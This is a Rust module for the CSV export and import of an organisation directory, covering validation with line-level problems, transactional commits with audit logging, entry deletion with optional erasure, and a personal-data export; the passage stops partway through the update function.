//! The directory as CSV. Export: every entry with every field, UTF-8 with a BOM (so Excel reads
//! it as UTF-8), comma or semicolon separated, multilingual fields as columns of their own and
//! lists inside one cell. Import: a file from a spreadsheet read back into a plan (how many rows
//! are new, updated and unchanged, and every problem with its line, column and reason), which is
//! written, when it has no problem, in one transaction: all rows or none.

pub use crate::entries::api::ImportProblem;
use crate::error::{AppError, Problem};
use crate::i18n::Lang;
use crate::platform::audit::{Actor, created, diff, erase_values, record};
use crate::platform::vocabulary::{KINDS, LANGUAGES};
use crate::shared::Localized;
use crate::shared::identifiers::is_email;
use crate::shared::identifiers::{is_phone, is_registry_code, is_web_address};
use crate::shared::text::{guard_cell, unguard_cell};
use serde_json::{Map, Value};
use sqlx::{FromRow, SqliteConnection, SqlitePool};
use std::collections::{HashMap, HashSet};

/// The columns of the file, in order.
pub const COLUMNS: [&str; 20] = [
    "slug",
    "name",
    "kind",
    "municipality",
    "sectors",
    "languages",
    "description_et",
    "description_ru",
    "description_en",
    "services_et",
    "services_ru",
    "services_en",
    "website",
    "email",
    "phone",
    "registry_code",
    "founded_year",
    "member",
    "published",
    "links",
];

/// The most items a list cell (sectors, languages, links) may have.
const MAX_LIST_ITEMS: usize = 30;

/// Columns a file must have; the others may be left out (and are then emptied).
const REQUIRED: [&str; 4] = ["name", "kind", "municipality", "sectors"];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Separator {
    Comma,
    /// What Estonian Excel writes and expects.
    Semicolon,
}

impl Separator {
    fn byte(self) -> u8 {
        match self {
            Separator::Comma => b',',
            Separator::Semicolon => b';',
        }
    }
}

/// One entry with every field the file has, as stored.
#[derive(Clone, Debug, Default, PartialEq, Eq, FromRow)]
pub struct Entry {
    pub id: i64,
    pub slug: String,
    pub name: String,
    pub kind: String,
    pub municipality: String,
    /// Codes, `, `-separated, in the sectors' order.
    pub sectors: String,
    pub languages: String,
    pub description_et: Option<String>,
    pub description_ru: Option<String>,
    pub description_en: Option<String>,
    pub services_et: Option<String>,
    pub services_ru: Option<String>,
    pub services_en: Option<String>,
    pub website: Option<String>,
    pub email: Option<String>,
    pub phone: Option<String>,
    pub registry_code: Option<String>,
    pub founded_year: Option<i64>,
    pub is_member: bool,
    pub is_published: bool,
    /// One address a line.
    pub links: String,
}

const ENTRIES: &str = "
    SELECT o.id, o.slug, o.name, o.kind, o.municipality_code AS municipality,
           coalesce((SELECT group_concat(code, ', ') FROM (
               SELECT s.code FROM organisation_sectors os JOIN sectors s ON s.code = os.sector_code
               WHERE os.organisation_id = o.id ORDER BY s.position)), '') AS sectors,
           coalesce((SELECT group_concat(language, ', ') FROM (
               SELECT language FROM organisation_languages WHERE organisation_id = o.id
               ORDER BY CASE language WHEN 'et' THEN 1 WHEN 'ru' THEN 2 WHEN 'en' THEN 3
                   ELSE 4 END, language)), '') AS languages,
           o.description_et, o.description_ru, o.description_en,
           o.services_et, o.services_ru, o.services_en,
           o.website, o.email, o.phone, o.registry_code, o.founded_year, o.is_member,
           o.is_published,
           coalesce((SELECT group_concat(url, char(10)) FROM (
               SELECT url FROM organisation_links WHERE organisation_id = o.id
               ORDER BY position)), '') AS links
    FROM organisations o";

pub async fn entries(pool: &SqlitePool) -> Result<Vec<Entry>, sqlx::Error> {
    sqlx::query_as(sqlx::AssertSqlSafe(format!(
        "{ENTRIES} ORDER BY o.name, o.id"
    )))
    .fetch_all(pool)
    .await
}

fn yes_no(value: bool) -> &'static str {
    if value { "yes" } else { "no" }
}

impl Entry {
    pub fn cells(&self) -> [String; 20] {
        let text = |value: &Option<String>| value.clone().unwrap_or_default();
        [
            self.slug.clone(),
            self.name.clone(),
            self.kind.clone(),
            self.municipality.clone(),
            self.sectors.clone(),
            self.languages.clone(),
            text(&self.description_et),
            text(&self.description_ru),
            text(&self.description_en),
            text(&self.services_et),
            text(&self.services_ru),
            text(&self.services_en),
            text(&self.website),
            text(&self.email),
            text(&self.phone),
            text(&self.registry_code),
            self.founded_year.map(|y| y.to_string()).unwrap_or_default(),
            yes_no(self.is_member).to_owned(),
            yes_no(self.is_published).to_owned(),
            self.links.clone(),
        ]
    }

    /// The fields an import compares and writes (all but the id and slug), as JSON values by
    /// column, for telling what changed.
    fn fields(&self) -> Map<String, Value> {
        COLUMNS
            .iter()
            .zip(self.cells())
            .skip(1)
            .map(|(column, cell)| ((*column).to_owned(), Value::String(cell)))
            .collect()
    }
}

/// Every entry as a CSV file.
pub async fn export(pool: &SqlitePool, separator: Separator) -> Result<Vec<u8>, AppError> {
    const CONTEXT: &str = "exporting the directory";
    let entries = entries(pool)
        .await
        .map_err(|e| AppError::internal(CONTEXT, e))?;
    let written = || -> Result<Vec<u8>, csv::Error> {
        let mut out = csv::WriterBuilder::new()
            .delimiter(separator.byte())
            .terminator(csv::Terminator::CRLF)
            .from_writer("\u{feff}".as_bytes().to_vec());
        out.write_record(COLUMNS)?;
        for entry in &entries {
            out.write_record(entry.cells().iter().map(|cell| guard_cell(cell)))?;
        }
        out.into_inner().map_err(|e| e.into_error().into())
    };
    written().map_err(|e| AppError::internal(CONTEXT, e))
}

/// A cell as stored: line breaks as `\n` in the columns that may have several lines (the
/// texts, the links), none in the others, and no other control character.
fn clean_cell(column: &str, cell: &str) -> String {
    use crate::shared::text::{clean_line, clean_text};
    let multi_line =
        column.starts_with("description_") || column.starts_with("services_") || column == "links";
    if multi_line {
        clean_text(cell)
    } else {
        clean_line(cell)
    }
}

/// What an import would do. Rows are matched to entries by registry code, else by the slug of
/// a file exported here, else by name in the same municipality.
#[derive(Clone, Debug, Default)]
pub struct ImportPlan {
    pub new: Vec<Entry>,
    /// The stored entry's id with the file's version.
    pub updated: Vec<(i64, Entry)>,
    pub unchanged: usize,
    pub problems: Vec<ImportProblem>,
}

/// The codes the file may name, by code or by label in any language (case does not matter).
struct Known {
    this_year: i64,
    sectors: HashMap<String, String>,
    municipalities: HashMap<String, String>,
    kinds: HashMap<String, String>,
    sector_order: HashMap<String, usize>,
}

async fn known(pool: &SqlitePool) -> Result<Known, sqlx::Error> {
    let table = |sql: &'static str| async move {
        let rows: Vec<(String, String, String, String)> =
            sqlx::query_as(sql).fetch_all(pool).await?;
        Ok::<_, sqlx::Error>(rows)
    };
    let lookup = |rows: &[(String, String, String, String)]| {
        let mut map = HashMap::new();
        for (code, et, ru, en) in rows {
            for name in [code, et, ru, en] {
                map.insert(name.to_lowercase(), code.clone());
            }
        }
        map
    };
    let sectors =
        table("SELECT code, label_et, label_ru, label_en FROM sectors ORDER BY position").await?;
    let municipalities =
        table("SELECT code, name_et, name_ru, name_en FROM municipalities ORDER BY position")
            .await?;
    let mut kinds = HashMap::new();
    for (index, code) in KINDS.iter().enumerate() {
        kinds.insert((*code).to_owned(), (*code).to_owned());
        for lang in Lang::ALL {
            kinds.insert(
                lang.texts().directory.kinds[index].to_lowercase(),
                (*code).to_owned(),
            );
        }
    }
    Ok(Known {
        this_year: i64::from(jiff::Zoned::now().year()),
        sector_order: sectors
            .iter()
            .enumerate()
            .map(|(position, row)| (row.0.clone(), position))
            .collect(),
        sectors: lookup(&sectors),
        municipalities: lookup(&municipalities),
        kinds,
    })
}

/// The separator a file uses: the one its header line has more of.
fn separator_of(text: &str) -> Separator {
    let header = text.lines().next().unwrap_or_default();
    if header.matches(';').count() > header.matches(',').count() {
        Separator::Semicolon
    } else {
        Separator::Comma
    }
}

/// Lines (from 1) of the records of a text, asked for in order. The reader's own line count
/// lags with Windows line ends, and its offset may point at the end of the line before.
struct Lines<'a> {
    text: &'a str,
    counted_to: usize,
    newlines: u64,
}

impl<'a> Lines<'a> {
    fn new(text: &'a str) -> Self {
        Self {
            text,
            counted_to: 0,
            newlines: 0,
        }
    }

    /// The line of the record the reader says starts at `byte` (no earlier than the last).
    fn of(&mut self, byte: u64) -> u64 {
        let text = self.text;
        let start = usize::try_from(byte).unwrap_or(text.len()).min(text.len());
        let first = text[start..]
            .find(|c| c != '\r' && c != '\n')
            .map_or(text.len(), |offset| start + offset);
        if first > self.counted_to {
            self.newlines += text.as_bytes()[self.counted_to..first]
                .iter()
                .filter(|&&b| b == b'\n')
                .count() as u64;
            self.counted_to = first;
        }
        self.newlines + 1
    }
}

/// Reads one row's cells into an entry; each refused cell is a problem.
struct RowReader<'a> {
    line: u64,
    cells: HashMap<&'a str, &'a str>,
    problems: Vec<ImportProblem>,
}

impl<'a> RowReader<'a> {
    fn cell(&self, column: &str) -> &'a str {
        self.cells.get(column).map(|c| c.trim()).unwrap_or_default()
    }

    fn problem(&mut self, column: &str, problem: Problem) {
        let value = self.cell(column).to_owned();
        self.problems.push(ImportProblem {
            line: self.line,
            column: column.to_owned(),
            problem,
            value,
        });
    }

    fn text(&mut self, column: &str, max: usize) -> Option<String> {
        let value = self.cell(column);
        if value.chars().count() > max {
            self.problem(column, Problem::TooLong);
        }
        (!value.is_empty()).then(|| value.to_owned())
    }

    fn checked(
        &mut self,
        column: &str,
        valid: fn(&str) -> bool,
        problem: Problem,
    ) -> Option<String> {
        let value = self.text(column, 300)?;
        if !valid(&value) {
            self.problem(column, problem);
        }
        Some(value)
    }

    fn yes_no(&mut self, column: &str, default: bool) -> bool {
        match self.cell(column).to_lowercase().as_str() {
            "" => default,
            "yes" | "y" | "true" | "1" | "x" | "jah" | "да" => true,
            "no" | "n" | "false" | "0" | "ei" | "нет" => false,
            _ => {
                self.problem(column, Problem::NotYesOrNo);
                default
            }
        }
    }

    /// A list cell (`, `, `;` or line separated) read through `lookup`; unknown items are each
    /// a problem.
    fn list(
        &mut self,
        column: &str,
        lookup: impl Fn(&str) -> Option<String>,
        unknown: Problem,
    ) -> Vec<String> {
        let mut found: Vec<String> = Vec::new();
        // Items are separated by `;` or lines, or by commas, which some labels also contain
        // ("Film, video, tele ja raadio"): a part that is a label as a whole counts whole.
        let items: Vec<&str> = self
            .cell(column)
            .split([';', '\n'])
            .map(str::trim)
            .flat_map(|part| match lookup(part) {
                Some(_) => vec![part],
                None => part.split(',').map(str::trim).collect(),
            })
            .filter(|item| !item.is_empty())
            .collect();
        if items.len() > MAX_LIST_ITEMS {
            self.problem(column, Problem::TooLong);
            return found;
        }
        for item in items {
            match lookup(item) {
                Some(code) if !found.contains(&code) => found.push(code),
                Some(_) => {}
                None => self.problems.push(ImportProblem {
                    line: self.line,
                    column: column.to_owned(),
                    problem: unknown,
                    value: item.to_owned(),
                }),
            }
        }
        found
    }

    fn entry(&mut self, known: &Known) -> Entry {
        let name = self.text("name", 200).unwrap_or_default();
        if name.is_empty() {
            self.problem("name", Problem::Required);
        }
        let kind = match known.kinds.get(&self.cell("kind").to_lowercase()) {
            Some(kind) => kind.clone(),
            None => {
                let problem = if self.cell("kind").is_empty() {
                    Problem::Required
                } else {
                    Problem::UnknownChoice
                };
                self.problem("kind", problem);
                String::new()
            }
        };
        let municipality = match known
            .municipalities
            .get(&self.cell("municipality").to_lowercase())
        {
            Some(code) => code.clone(),
            None => {
                let problem = if self.cell("municipality").is_empty() {
                    Problem::Required
                } else {
                    Problem::UnknownMunicipality
                };
                self.problem("municipality", problem);
                String::new()
            }
        };
        let mut sectors = self.list(
            "sectors",
            |item| known.sectors.get(&item.to_lowercase()).cloned(),
            Problem::UnknownSector,
        );
        if sectors.is_empty() && !self.problems.iter().any(|p| p.column == "sectors") {
            self.problem("sectors", Problem::Required);
        }
        sectors.sort_by_key(|code| known.sector_order.get(code).copied().unwrap_or(usize::MAX));
        let mut languages = self.list(
            "languages",
            |item| {
                let code = item.to_lowercase();
                (code.len() >= 2 && code.len() <= 3 && code.chars().all(|c| c.is_ascii_lowercase()))
                    .then_some(code)
            },
            Problem::UnknownLanguage,
        );
        languages.sort_by_key(|code| {
            LANGUAGES
                .iter()
                .position(|known| known == code)
                .unwrap_or(LANGUAGES.len())
        });
        let description = [
            self.text("description_et", 5000),
            self.text("description_ru", 5000),
            self.text("description_en", 5000),
        ];
        if description.iter().all(Option::is_none) {
            self.problem("description_et", Problem::DescriptionInOneLanguage);
        }
        let website = self.checked("website", is_web_address, Problem::NotAWebAddress);
        let email = self.checked("email", is_email, Problem::NotAnEmail);
        let phone = self.checked("phone", is_phone, Problem::NotAPhone);
        let registry_code =
            self.checked("registry_code", is_registry_code, Problem::NotARegistryCode);
        let this_year = known.this_year;
        let founded_year = match self.cell("founded_year") {
            "" => None,
            typed => match typed.parse::<i64>() {
                Ok(year) if (1800..=this_year).contains(&year) => Some(year),
                _ => {
                    self.problem("founded_year", Problem::NotAYear);
                    None
                }
            },
        };
        let links: Vec<String> = self
            .cell("links")
            .split(['\n', ' '])
            .map(str::trim)
            .filter(|link| !link.is_empty())
            .map(str::to_owned)
            .collect();
        if links.len() > MAX_LIST_ITEMS {
            self.problem("links", Problem::TooLong);
        }
        for link in &links {
            if !is_web_address(link) {
                self.problems.push(ImportProblem {
                    line: self.line,
                    column: "links".to_owned(),
                    problem: Problem::NotAWebAddress,
                    value: link.clone(),
                });
            }
        }
        let [description_et, description_ru, description_en] = description;
        Entry {
            id: 0,
            slug: self.cell("slug").to_owned(),
            name,
            kind,
            municipality,
            sectors: sectors.join(", "),
            languages: languages.join(", "),
            description_et,
            description_ru,
            description_en,
            services_et: self.text("services_et", 5000),
            services_ru: self.text("services_ru", 5000),
            services_en: self.text("services_en", 5000),
            website,
            email,
            phone,
            registry_code,
            founded_year,
            is_member: self.yes_no("member", false),
            is_published: self.yes_no("published", true),
            links: links.join("\n"),
        }
    }
}

/// Reads `file` and works out what importing it would do, touching nothing.
pub async fn plan(pool: &SqlitePool, file: &[u8]) -> Result<ImportPlan, sqlx::Error> {
    let mut plan = ImportPlan::default();
    let whole_line = |line: u64, problem: Problem, value: String| ImportProblem {
        line,
        column: String::new(),
        problem,
        value,
    };
    let file = file.strip_prefix("\u{feff}".as_bytes()).unwrap_or(file);
    let text = match std::str::from_utf8(file) {
        Ok(text) => text,
        Err(error) => {
            let line = file[..error.valid_up_to()]
                .iter()
                .filter(|&&b| b == b'\n')
                .count() as u64
                + 1;
            plan.problems
                .push(whole_line(line, Problem::NotUtf8, String::new()));
            return Ok(plan);
        }
    };
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(separator_of(text).byte())
        .flexible(true)
        .from_reader(text.as_bytes());
    let header: Vec<String> = match reader.headers() {
        Ok(header) => header.iter().map(|h| h.trim().to_lowercase()).collect(),
        Err(error) => {
            plan.problems
                .push(whole_line(1, Problem::NotACsvFile, error.to_string()));
            return Ok(plan);
        }
    };
    for column in &header {
        if !COLUMNS.contains(&column.as_str()) {
            plan.problems.push(ImportProblem {
                line: 1,
                column: column.clone(),
                problem: Problem::UnknownColumn,
                value: column.clone(),
            });
        }
    }
    for column in REQUIRED {
        if !header.iter().any(|h| h == column) {
            plan.problems.push(ImportProblem {
                line: 1,
                column: column.to_owned(),
                problem: Problem::MissingColumn,
                value: String::new(),
            });
        }
    }
    if !plan.problems.is_empty() {
        return Ok(plan);
    }
    let known = known(pool).await?;
    let stored = entries(pool).await?;
    let by_code: HashMap<&str, &Entry> = stored
        .iter()
        .filter_map(|e| e.registry_code.as_deref().map(|code| (code, e)))
        .collect();
    let by_slug: HashMap<&str, &Entry> = stored.iter().map(|e| (e.slug.as_str(), e)).collect();
    let by_name: HashMap<(String, &str), &Entry> = stored
        .iter()
        .map(|e| ((e.name.to_lowercase(), e.municipality.as_str()), e))
        .collect();
    let mut seen: HashSet<String> = HashSet::new();
    let mut lines = Lines::new(text);
    for record in reader.records() {
        let record = match record {
            Ok(record) => record,
            Err(error) => {
                let line = error.position().map_or(0, |p| lines.of(p.byte()));
                plan.problems
                    .push(whole_line(line, Problem::NotACsvFile, error.to_string()));
                continue;
            }
        };
        if record.iter().all(|cell| cell.trim().is_empty()) {
            continue;
        }
        let line = record.position().map_or(0, |p| lines.of(p.byte()));
        if record.len() > header.len() {
            plan.problems.push(whole_line(
                line,
                Problem::TooManyCells,
                record.len().to_string(),
            ));
            continue;
        }
        let cells: Vec<String> = header
            .iter()
            .zip(record.iter())
            .map(|(column, cell)| clean_cell(column, unguard_cell(cell)))
            .collect();
        let mut row = RowReader {
            line,
            cells: header
                .iter()
                .map(String::as_str)
                .zip(cells.iter().map(String::as_str))
                .collect(),
            problems: Vec::new(),
        };
        let mut entry = row.entry(&known);
        let mut problems = row.problems;
        // What identifies the row, in the order rows are matched to entries: the registry
        // code, the slug of a file exported here, else the name in its municipality.
        let name_key = (entry.name.to_lowercase(), entry.municipality.clone());
        let identity = match (&entry.registry_code, entry.slug.as_str()) {
            (Some(code), _) => format!("code {code}"),
            (None, "") => format!("name {} in {}", name_key.0, name_key.1),
            (None, slug) => format!("slug {slug}"),
        };
        if !seen.insert(identity) {
            problems.push(whole_line(
                line,
                Problem::DuplicateInFile,
                entry.name.clone(),
            ));
        }
        if !problems.is_empty() {
            plan.problems.extend(problems);
            continue;
        }
        let matched = entry
            .registry_code
            .as_deref()
            .and_then(|code| by_code.get(code))
            .or_else(|| by_slug.get(entry.slug.as_str()))
            .or_else(|| by_name.get(&(name_key.0, entry.municipality.as_str())));
        match matched {
            Some(stored) => {
                entry.id = stored.id;
                entry.slug = stored.slug.clone();
                if entry.fields() == stored.fields() {
                    plan.unchanged += 1;
                } else {
                    plan.updated.push((stored.id, entry));
                }
            }
            None => plan.new.push(entry),
        }
    }
    Ok(plan)
}

/// One entry read from cells named as the file's columns (the coordinator's form sends the
/// same), with each refused cell; `line` is 0.
pub async fn read_entry(
    pool: &SqlitePool,
    cells: &HashMap<&str, &str>,
) -> Result<(Entry, Vec<ImportProblem>), sqlx::Error> {
    let known = known(pool).await?;
    let cleaned: Vec<(&str, String)> = cells
        .iter()
        .map(|(column, cell)| (*column, clean_cell(column, cell)))
        .collect();
    let mut row = RowReader {
        line: 0,
        cells: cleaned
            .iter()
            .map(|(column, cell)| (*column, cell.as_str()))
            .collect(),
        problems: Vec::new(),
    };
    let entry = row.entry(&known);
    Ok((entry, row.problems))
}

/// Entries that may be the same as `entry` (other than entry `id`): the same registry code, or
/// a name within a typo or two in the same municipality. As (id, name).
pub async fn look_alikes(
    pool: &SqlitePool,
    entry: &Entry,
    id: Option<i64>,
) -> Result<Vec<(i64, String)>, sqlx::Error> {
    let candidates: Vec<(i64, String, String, Option<String>)> = sqlx::query_as(
        "SELECT id, name, municipality_code, registry_code FROM organisations WHERE id IS NOT ?",
    )
    .bind(id)
    .fetch_all(pool)
    .await?;
    let name = crate::platform::search::words(&entry.name).join(" ");
    Ok(candidates
        .into_iter()
        .filter(|(_, other, municipality, code)| {
            let same_code = entry.registry_code.is_some() && *code == entry.registry_code;
            let similar = *municipality == entry.municipality
                && !name.is_empty()
                && strsim::jaro_winkler(&name, &crate::platform::search::words(other).join(" "))
                    >= 0.92;
            same_code || similar
        })
        .map(|(id, name, _, _)| (id, name))
        .take(5)
        .collect())
}

/// Saves one entry from the coordinator's form: new when `id` is `None`. Audited field by
/// field; returns the entry's id.
pub async fn save_entry(
    pool: &SqlitePool,
    id: Option<i64>,
    entry: &Entry,
    actor: Actor<'_>,
) -> Result<i64, AppError> {
    let failed = |e: sqlx::Error| AppError::internal("saving an entry", e);
    let mut tx = crate::platform::db::write(pool).await.map_err(failed)?;
    let id = save_entry_in(&mut tx, id, entry, actor).await?;
    tx.commit().await.map_err(failed)?;
    Ok(id)
}

/// [`save_entry`] inside the caller's transaction.
pub async fn save_entry_in(
    tx: &mut SqliteConnection,
    id: Option<i64>,
    entry: &Entry,
    actor: Actor<'_>,
) -> Result<i64, AppError> {
    let failed = |e: sqlx::Error| AppError::internal("saving an entry", e);
    let before = match id {
        Some(id) => {
            let stored: Option<Entry> =
                sqlx::query_as(sqlx::AssertSqlSafe(format!("{ENTRIES} WHERE o.id = ?")))
                    .bind(id)
                    .fetch_optional(&mut *tx)
                    .await
                    .map_err(failed)?;
            stored.ok_or(AppError::NotFound)?.fields()
        }
        None => Map::new(),
    };
    let (id, action) = match id {
        Some(id) => {
            update(&mut *tx, id, entry).await.map_err(failed)?;
            (id, "organisation.edited")
        }
        None => {
            let mut taken: HashSet<String> = sqlx::query_scalar("SELECT slug FROM organisations")
                .fetch_all(&mut *tx)
                .await
                .map_err(failed)?
                .into_iter()
                .collect();
            let slug = free_slug("", &entry.name, &mut taken);
            let id = insert(&mut *tx, &for_create(entry, slug))
                .await
                .map_err(failed)?;
            set_published(&mut *tx, id, entry.is_published)
                .await
                .map_err(failed)?;
            (id, "organisation.created")
        }
    };
    if let Some(changes) = diff(&before, &filled(entry.fields())) {
        record(tx, actor, action, "organisation", Some(id), changes)
            .await
            .map_err(failed)?;
    }
    Ok(id)
}

/// The fields that have a value (for a new entry's audit line: what it was created with).
fn filled(fields: Map<String, Value>) -> Map<String, Value> {
    fields
        .into_iter()
        .filter(|(_, value)| value != "")
        .collect()
}

/// Deletes entry `id` (its sectors, languages, links and logo go with it). The audit log keeps
/// that it existed and its name; with `erase`, it keeps only that changes happened: every value
/// in the entry's trail becomes "erased" (the fields stay named, with their times and actors),
/// and the applications it came from are deleted, their trail erased the same way.
pub async fn delete_entry(
    pool: &SqlitePool,
    id: i64,
    erase: bool,
    actor: Actor<'_>,
) -> Result<(), AppError> {
    let failed = |e: sqlx::Error| AppError::internal("deleting an entry", e);
    let mut tx = crate::platform::db::write(pool).await.map_err(failed)?;
    if erase {
        // Before the entry goes, while its applications still point to it.
        crate::joining::store::erase_of_entry(&mut tx, id)
            .await
            .map_err(failed)?;
        erase_values(&mut tx, "organisation", id)
            .await
            .map_err(failed)?;
    }
    let name: Option<String> =
        sqlx::query_scalar("DELETE FROM organisations WHERE id = ? RETURNING name")
            .bind(id)
            .fetch_optional(&mut *tx)
            .await
            .map_err(failed)?;
    let name = name.ok_or(AppError::NotFound)?;
    let (action, changes) = if erase {
        ("organisation.erased", serde_json::json!({}))
    } else {
        (
            "organisation.deleted",
            serde_json::json!({ "name": [name, null] }),
        )
    };
    record(&mut tx, actor, action, "organisation", Some(id), changes)
        .await
        .map_err(failed)?;
    tx.commit().await.map_err(failed)
}

/// Everything stored about entry `id`, for its owner: every field, the applications it came
/// from, the registrations made with its email, and its audit trail. The download itself is logged.
pub async fn personal_data(
    pool: &SqlitePool,
    id: i64,
    actor: Actor<'_>,
) -> Result<Value, AppError> {
    let failed = |e: sqlx::Error| AppError::internal("collecting an entry's data", e);
    let stored = entry(pool, id)
        .await
        .map_err(failed)?
        .ok_or(AppError::NotFound)?;
    #[derive(FromRow, serde::Serialize)]
    struct Registration {
        event: String,
        name: String,
        email: String,
        organisation: Option<String>,
        consent: String,
        status: String,
        registered_at: String,
        cancelled_at: Option<String>,
    }
    #[derive(FromRow, serde::Serialize)]
    struct AuditLine {
        at: String,
        action: String,
        by: Option<String>,
        address: Option<String>,
        #[serde(serialize_with = "as_json")]
        changes: String,
    }
    fn as_json<S: serde::Serializer>(text: &str, out: S) -> Result<S::Ok, S::Error> {
        serde::Serialize::serialize(
            &serde_json::from_str::<Value>(text).unwrap_or(Value::Null),
            out,
        )
    }
    let registrations: Vec<Registration> = sqlx::query_as(
        "SELECT e.slug AS event, r.name, r.email, r.organisation, r.consent, r.status,
                r.created_at AS registered_at, r.cancelled_at
         FROM registrations r JOIN events e ON e.id = r.event_id
         WHERE r.email = ? ORDER BY r.id",
    )
    .bind(stored.email.clone().unwrap_or_default())
    .fetch_all(pool)
    .await
    .map_err(failed)?;
    let audit: Vec<AuditLine> = sqlx::query_as(
        "SELECT a.at, a.action, u.email AS by, a.address, a.changes
         FROM audit_log a LEFT JOIN users u ON u.id = a.user_id
         WHERE a.entity = 'organisation' AND a.entity_id = ? ORDER BY a.id",
    )
    .bind(id)
    .fetch_all(pool)
    .await
    .map_err(failed)?;
    let applications: Vec<Value> = crate::joining::store::of_entry(pool, id)
        .await
        .map_err(failed)?
        .into_iter()
        .map(|a| {
            serde_json::json!({
                "sent_at": a.created_at,
                "language": a.lang,
                "form": serde_json::from_str::<Value>(&a.form).unwrap_or(Value::Null),
                "contact_name": a.contact_name,
                "contact_email": a.contact_email,
                "contact_phone": a.contact_phone,
                "consent": a.consent,
                "consented_at": a.consented_at,
                "status": a.status,
                "decided_at": a.decided_at,
            })
        })
        .collect();
    let mut fields = Map::new();
    fields.insert("slug".into(), Value::String(stored.slug.clone()));
    fields.extend(stored.fields());
    let data = serde_json::json!({
        "entry": fields,
        "applications": applications,
        "registrations": registrations,
        "audit_log": audit,
    });
    let mut tx = crate::platform::db::write(pool).await.map_err(failed)?;
    record(
        &mut tx,
        actor,
        "organisation.data_exported",
        "organisation",
        Some(id),
        serde_json::json!({}),
    )
    .await
    .map_err(failed)?;
    tx.commit().await.map_err(failed)?;
    Ok(data)
}

/// One stored entry with every field, by id.
pub async fn entry(pool: &SqlitePool, id: i64) -> Result<Option<Entry>, sqlx::Error> {
    sqlx::query_as(sqlx::AssertSqlSafe(format!("{ENTRIES} WHERE o.id = ?")))
        .bind(id)
        .fetch_optional(pool)
        .await
}

/// Writes a plan without problems, all in one transaction, each entry with its audit line.
/// Returns (new, updated).
pub async fn commit(
    pool: &SqlitePool,
    plan: &ImportPlan,
    actor: Actor<'_>,
) -> Result<(usize, usize), AppError> {
    if let Some(first) = plan.problems.first() {
        return Err(AppError::invalid(&first.column, first.problem));
    }
    let failed = |e: sqlx::Error| AppError::internal("importing the directory", e);
    let mut tx = crate::platform::db::write(pool).await.map_err(failed)?;
    let mut taken: HashSet<String> = sqlx::query_scalar("SELECT slug FROM organisations")
        .fetch_all(&mut *tx)
        .await
        .map_err(failed)?
        .into_iter()
        .collect();
    for entry in &plan.new {
        let slug = free_slug(&entry.slug, &entry.name, &mut taken);
        let id = insert(&mut tx, &for_create(entry, slug))
            .await
            .map_err(failed)?;
        set_published(&mut tx, id, entry.is_published)
            .await
            .map_err(failed)?;
        let changes = created(&filled(entry.fields()));
        record(
            &mut tx,
            actor,
            "organisation.imported",
            "organisation",
            Some(id),
            changes,
        )
        .await
        .map_err(failed)?;
    }
    for (id, entry) in &plan.updated {
        let before: Option<Entry> =
            sqlx::query_as(sqlx::AssertSqlSafe(format!("{ENTRIES} WHERE o.id = ?")))
                .bind(id)
                .fetch_optional(&mut *tx)
                .await
                .map_err(failed)?;
        let before = before.map(|e| e.fields()).unwrap_or_default();
        update(&mut tx, *id, entry).await.map_err(failed)?;
        if let Some(changes) = diff(&before, &entry.fields()) {
            record(
                &mut tx,
                actor,
                "organisation.import_updated",
                "organisation",
                Some(*id),
                changes,
            )
            .await
            .map_err(failed)?;
        }
    }
    tx.commit().await.map_err(failed)?;
    Ok((plan.new.len(), plan.updated.len()))
}

fn localized(et: &Option<String>, ru: &Option<String>, en: &Option<String>) -> Localized {
    Localized::new(et.clone(), ru.clone(), en.clone())
}

fn list(cell: &str, separator: char) -> Vec<String> {
    cell.split(separator)
        .map(str::trim)
        .filter(|item| !item.is_empty())
        .map(str::to_owned)
        .collect()
}

fn for_create(entry: &Entry, slug: String) -> OrganisationForCreate {
    OrganisationForCreate {
        slug,
        name: entry.name.clone(),
        kind: KINDS
            .iter()
            .find(|kind| **kind == entry.kind)
            .copied()
            .unwrap_or("other"),
        municipality_code: entry.municipality.clone(),
        description: localized(
            &entry.description_et,
            &entry.description_ru,
            &entry.description_en,
        ),
        services: localized(&entry.services_et, &entry.services_ru, &entry.services_en),
        website: entry.website.clone(),
        email: entry.email.clone(),
        phone: entry.phone.clone(),
        registry_code: entry.registry_code.clone(),
        founded_year: entry.founded_year,
        is_member: entry.is_member,
        sector_codes: list(&entry.sectors, ','),
        languages: list(&entry.languages, ','),
        links: list(&entry.links, '\n'),
    }
}

async fn set_published(
    connection: &mut SqliteConnection,
    id: i64,
    published: bool,
) -> Result<(), sqlx::Error> {
    sqlx::query("UPDATE organisations SET is_published = ? WHERE id = ?")
        .bind(published)
        .bind(id)
        .execute(connection)
        .await?;
    Ok(())
}

/// Replaces every field of entry `id` (but its slug) with the file's.
async fn update(
    connection: &mut SqliteConnection,
    id: i64,
    entry: &Entry,
) -> Result<(), sqlx::Error> {
    sqlx::query(
        "UPDATE organisations SET name = ?, kind = ?, municipality_code = ?,
             description_et = ?, description_ru = ?, description_en = ?,
             services_et = ?, services_ru = ?, services_en = ?, website = ?, email = ?,
             phone = ?, registry_code = ?, founded_year = ?, is_member = ?, is_published = ?,
             updated_at = strftime('%Y-%m-%dT%H:%M:%SZ', 'now')
         WHERE id = ?",
    )
    .bind(&entry.name)
    .bind(&entry.kind)
    .bind(&entry.municipality)
    .bind(&entry.description_et)
    .bind(&entry.description_ru)
    .bind(&entry.description_en)
    .bind(&entry.services_et)
    .bind(&entry.services_ru)
    .bind(&entry.services_en)
    .bind(&entry.website)
    .bind(&entry.email)
    .bind(&entry.phone)
    .bind(&entry.registry_code)
    .bind(entry.founded_year)
    .bind(entry.is_member)
    .bind(entry.is_published)
    .bind(id)
    .execute(&mut *connection)
    .await?;
    for table in [
        "organisation_sectors",
        "organisation_languages",
        "organisation_links",
    ] {
        // Constant table names only.
        sqlx::query(sqlx::AssertSqlSafe(format!(
            "DELETE FROM {table} WHERE organisation_id = ?"
        )))
        .bind(id)
        .execute(&mut *connection)
        .await?;
    }
    for sector in list(&entry.sectors, ',') {
        sqlx::query(
            "INSERT INTO organisation_sectors (organisation_id, sector_code) VALUES (?, ?)",
        )
        .bind(id)
        .bind(sector)
        .execute(&mut *connection)
        .await?;
    }
    for language in list(&entry.languages, ',') {
        sqlx::query("INSERT INTO organisation_languages (organisation_id, language) VALUES (?, ?)")
            .bind(id)
            .bind(language)
            .execute(&mut *connection)
            .await?;
    }
    for (position, url) in list(&entry.links, '\n').into_iter().enumerate() {
        sqlx::query(
            "INSERT INTO organisation_links (organisation_id, position, url) VALUES (?, ?, ?)",
        )
        .bind(id)
        .bind(position as i64)
